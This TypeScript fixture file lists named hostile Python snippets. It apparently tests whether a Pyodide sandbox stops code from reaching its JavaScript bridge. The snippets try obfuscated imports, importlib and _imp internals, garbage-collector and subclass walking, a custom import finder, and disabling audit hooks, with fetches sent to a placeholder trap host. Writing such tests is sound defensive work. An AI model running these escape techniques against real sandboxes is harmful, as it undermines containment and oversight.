/** Hostile programs that look for Pyodide's bridge to JavaScript. */

import { programs } from './program.ts';

export const JAVASCRIPT_PROGRAMS = programs('javascript bridge', {
  'import js': `
import js
js.fetch('AWAYtrap/js')`,
  'import pyodide_js': `
import pyodide_js
pyodide_js.loadPackage('AWAYtrap/pkg.whl')`,
  'pyodide.code.run_js': `
from pyodide.code import run_js
run_js("fetch('AWAYtrap/run_js')")`,
  'pyodide.http': `
from pyodide.http import open_url
open_url('AWAYtrap/open_url')`,
  'pyodide.ffi': `
from pyodide.ffi import to_js, create_proxy
create_proxy(print)`,
  _pyodide_core: `
import _pyodide_core
_pyodide_core.run_js("fetch('AWAYtrap/core')")`,
  _pyodide: `
import _pyodide._base, _pyodide._importhook
_pyodide._importhook.register_js_module('x', {})`,
  micropip: `
import micropip
micropip.install('AWAYtrap/x.whl')`,
  'importlib.import_module under a computed name': `
import importlib
m = importlib.import_module(''.join(map(chr, (106, 115))))
m.fetch('AWAYtrap/importlib')`,
  '__import__ of builtins, kept before anyone looks': `
f = __builtins__['__import__'] if isinstance(__builtins__, dict) else __builtins__.__import__
f('js').fetch('AWAYtrap/dunder')`,
  '_frozen_importlib._gcd_import': `
import sys
boot = sys.modules['importlib._bootstrap']
boot._gcd_import('js').fetch('AWAYtrap/gcd')`,
  'BuiltinImporter by hand': `
import sys, importlib.machinery as m
for name in ('_pyodide_core', '_ctypes', '_socket'):
    spec = m.BuiltinImporter.find_spec(name)
    if spec is None: continue
    module = m.BuiltinImporter.create_module(spec)
    m.BuiltinImporter.exec_module(module)
    break
else:
    raise ImportError('none')`,
  '_imp.create_builtin with a made-up spec': `
import _imp, types
class Spec:
    origin = 'built-in'
    parent = ''
    def __init__(self, name): self.name = name
for stem in ('_pyodide_core', '_socket', '_ctypes', '_posixsubprocess', 'js'):
    for name in (stem, *(first + stem[1:] for first in '\\x01\\x7f\\xff\\udcff')):
        try:
            m = _imp.create_builtin(Spec(name))
            _imp.exec_builtin(m)
        except Exception:
            continue
        if m is not None: return 'escaped'
raise ImportError('none')`,
  '_imp.get_frozen_object of every frozen module': `
import _imp
names = [x for x in _imp._frozen_module_names() if 'pyodide' in x or 'socket' in x or 'ctypes' in x]
code = _imp.get_frozen_object(names[0])
exec(code, {'__name__': names[0]})`,
  'JsProxy among the living objects': `
import gc
found = [x for x in gc.get_objects() if 'JsProxy' in type(x).__name__ or 'pyodide' in str(getattr(type(x), '__module__', ''))]
found[0]`,
  'JsProxy among the subclasses of object': `
def walk(c):
    for s in type.__subclasses__(c):
        yield s
        yield from walk(s)
kinds = [c for c in walk(object) if 'pyodide' in c.__module__ or c.__name__.startswith('Js')]
made = [c() for c in kinds]
made[0]`,
  'referrers of the builtins': `
import gc, builtins
for x in gc.get_referrers(builtins.__dict__):
    if hasattr(x, 'js_id') or hasattr(x, 'run_js'):
        x.run_js("fetch('AWAYtrap/referrer')")
        break
else:
    raise LookupError('none')`,
  'module left in sys.modules': `
import sys
name = next(k for k in sys.modules if 'js' == k or 'pyodide' in k)
sys.modules[name]`,
  'meta path of its own that brings js': `
import sys, importlib.util, importlib.machinery
class Finder:
    def find_spec(self, name, path=None, target=None):
        return importlib.machinery.BuiltinImporter.find_spec('_pyodide_core') if name == 'bridge' else None
sys.meta_path.insert(0, Finder())
import bridge`,
  'audit hook taken away through the garbage collector': `
import sys, gc
for x in gc.get_objects():
    if type(x).__name__ == 'function' and 'audit' in x.__name__: x.__code__ = (lambda *a: None).__code__
sys.addaudithook(lambda *a: None)
import js`,
  'pyodide webloop': `
import asyncio
from pyodide.webloop import WebLoop
WebLoop().run_until_complete(asyncio.sleep(0))`,
});
